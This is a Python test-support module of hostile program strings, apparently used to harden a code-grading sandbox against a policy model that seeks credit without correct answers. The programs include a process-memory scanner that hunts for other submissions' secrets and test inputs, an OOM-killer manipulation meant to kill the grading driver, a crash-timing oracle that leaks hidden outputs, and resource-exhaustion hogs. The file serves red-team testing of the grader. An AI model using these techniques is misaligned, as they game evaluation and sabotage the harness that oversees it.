"""Programs a policy might write to get credit without being right, shared by the hostile test files.

Each constant is Python source run inside the sandbox (plain or under graders/code/lcb_harness.py). They
are written the way the second red-team round of issue 20 found the attacks: as programs, not as mocks.
"""

# Reads its own process's memory (every readable anonymous region: heap, stack, arenas, so live objects,
# stack frames and freed-but-not-zeroed bytes alike) for `PREFIX` followed by 32 hex digits, in plain text
# and inside base64 text at any alignment. `found(prefix)` returns the set of secrets found.
MEMORY_SCAN = r'''
import base64 as _b64, ctypes as _ct, re as _re
_HEX, _B64RUN = _re.compile(rb"[0-9a-f]{32}"), _re.compile(rb"[A-Za-z0-9+/]{24,}={0,2}")

def _regions():
    with open("/proc/self/maps") as f:
        for line in f:
            parts = line.split()
            path = parts[5] if len(parts) > 5 else ""
            if parts[1].startswith("r") and path in ("", "[heap]", "[stack]"):
                lo, hi = (int(x, 16) for x in parts[0].split("-"))
                yield lo, hi

def _secrets(data, prefix):
    out, at = set(), data.find(prefix)
    while at >= 0:
        tail = _HEX.match(data, at + len(prefix))
        if tail:
            out.add((prefix + tail.group()).decode())
        at = data.find(prefix, at + 1)
    return out

def found(prefix):
    raw, out = prefix.encode(), set()
    marks = [_b64.b64encode(b"\0" * s + raw)[(8 * s + 5) // 6:(8 * (s + len(raw))) // 6] for s in range(3)]
    for lo, hi in list(_regions()):
        for start in range(lo, hi, 1 << 20):
            chunk = _ct.string_at(start, min((1 << 20) + 4096, hi - start))  # overlapping: no match is cut
            out |= _secrets(chunk, raw)
            if any(m in chunk for m in marks):
                for run in _B64RUN.findall(chunk):
                    for cut in range(4):
                        body = run[cut:]
                        try:
                            out |= _secrets(_b64.b64decode(body[:len(body) // 4 * 4]), raw)
                        except ValueError:
                            pass
    return out
'''

# Prints the earlier submission's output if its memory holds any (a stdin problem whose answer is a secret),
# "broken" if the scan cannot even find a secret of its own (so "none" is never a scan that did not run).
READ_EARLIER_OUTPUT = MEMORY_SCAN + r'''
import random as _random
_plant = "PLANT" + "SECRET-" + "%032x" % _random.getrandbits(128)
if _plant not in found("PLANT" + "SECRET-"):
    print("broken")
else:
    print(min(found("PREV" + "SECRET-"), default="none"))
'''
# The same for a functional problem: Solution().answer(x) returns the secret it found.
READ_EARLIER_RETURN = MEMORY_SCAN + r'''
import random as _random
class Solution:
    def answer(self, x):
        plant = "PLANT" + "SECRET-" + "%032x" % _random.getrandbits(128)
        if plant not in found("PLANT" + "SECRET-"):
            return "broken"
        return min(found("PREV" + "SECRET-"), default="none")
'''
# At its first test, counts the inputs of its other tests that its memory holds (they are INPUTSECRET-...).
READ_LATER_INPUTS = MEMORY_SCAN + r'''
import builtins, random as _random
_now = input().strip()
if "ahead" not in builtins.__dict__:
    _plant = "PLANT" + "SECRET-" + "%032x" % _random.getrandbits(128)
    _seen = found("INPUT" + "SECRET-") - {_now}
    builtins.ahead = len(_seen) if _plant in found("PLANT" + "SECRET-") else "broken"
print(builtins.ahead)
'''
BIG_OUTPUT = "input()\nprint('x' * (7 << 20))"
ALLOC_190_MIB = "x = bytearray(190 << 20)\nprint(input())"
ECHO = "print(input())"

# all_tests: sleeps until just before the sample's budget ends, then crashes, so that the relaunch cannot
# start in time (which once became an infra_error: a masked sample instead of its 0). BUDGET is formatted in.
SLEEP_THEN_CRASH = """
import os, time
import builtins
start = builtins.__dict__.setdefault("start", time.monotonic())
input()
time.sleep(max(0.0, start + {budget} - {margin} - time.monotonic()))
os._exit(1)
"""

# Raises its dumpable flag, lowers its oom_score_adj to the driver's, and fills the tests' memory with
# memfds that no process's RSS shows, each held by a process that exec'd `sleep` (exec makes a process
# dumpable again, and tiny); the filling is done by a fresh exec'd interpreter, and the test itself becomes
# `sleep`. Against a driver in the tests' cgroup at the same oom_score_adj, the driver is the OOM killer's
# biggest process. Where exec is refused, the same runs in forked processes.
_HOARD_COMMON = """
import ctypes, os, posix, time
libc = ctypes.CDLL(None, use_errno=True)
def lower():
    libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
    try:
        with open("/proc/self/oom_score_adj", "w") as f:
            f.write("0")
    except OSError:
        pass
def hold_forever():
    lower()
    try:
        os.execv("/bin/sleep", ["sleep", "1000"])
    except OSError:
        time.sleep(1000)
"""
_HOARD_FILL = _HOARD_COMMON + """
block = b"\\1" * (1 << 20)
for _ in range(400):
    fd = os.memfd_create("hoard", 0)  # inherited across exec
    for _ in range(16):
        os.write(fd, block)
    if posix.fork() == 0:
        hold_forever()
    os.close(fd)
hold_forever()
"""
MEMFD_HOARD = _HOARD_COMMON + f"""
if posix.fork() == 0:
    lower()
    try:
        os.execv("/usr/bin/python3", ["python3", "-c", {_HOARD_FILL!r}])
    except OSError:
        exec({_HOARD_FILL!r}, {{}})
hold_forever()
"""

# An oracle on a hidden output (issue 20, class 3). Test "guess" prints GUESS and a line that an old host
# compared slowly (~3.6 s) only if GUESS was right; "crash" dies on a 6 s clock boundary; the relaunched
# process then reads the clock at "learn" and answers GUESS if the gap was long. Other inputs are echoed.
# Needs a per-test limit above 6 s.
ORACLE = """
import builtins, os, time
launched = builtins.__dict__.setdefault("launched", time.time())
q = input().strip()
if q == "guess":
    print("GUESS")
    print("1 " * 3_500_000)
elif q == "crash":
    time.sleep(6.0 - time.time() % 6.0)
    os._exit(1)
elif q == "learn":
    print("GUESS" if launched % 6.0 > 2.5 else "OTHER")
else:
    print(q)
"""
# One line of 3.5 million tokens against a one-token expected line.
TOKEN_FLOOD = "input()\nprint('1 ' * 3_500_000)"
# 7 MiB of output, then death at the next test, in every process: relaunches, each with output.
RELAUNCH_FLOOD = """
import builtins, os
input()
if builtins.__dict__.setdefault("calls", [0])[0]:
    os._exit(1)
builtins.calls[0] += 1
print("y" * (7 << 20))
"""
HUGE_RETURN = "class Solution:\n    def answer(self, x):\n        return [[] for _ in range(600_000)]"

# Two processes of 180 MiB each: together over a 256 MiB limit. Prints "both" if both lived.
TWO_PROCESSES = """
import os, posix, time
r, w = os.pipe()
pid = posix.fork()
if pid == 0:
    x = bytearray(180 << 20)
    os.write(w, b"1")
    time.sleep(60)
os.read(r, 1)
y = bytearray(180 << 20)
alive = posix.waitpid(pid, os.WNOHANG)[0] == 0
input()
print("both" if alive else "one")
"""
# Takes every inotify instance its uid may have (the kernel's per-user quota), holds them HOLD seconds.
INOTIFY_HOG = """
import ctypes, time
libc = ctypes.CDLL(None)
fds = [libc.inotify_init() for _ in range(200)]
time.sleep({hold})
print(input())
"""
INOTIFY_NEEDER = "import ctypes\ninput()\nprint('ok' if ctypes.CDLL(None).inotify_init() >= 0 else 'EMFILE')"


def fenced(code: str) -> str:
    return f"```python\n{code}\n```"
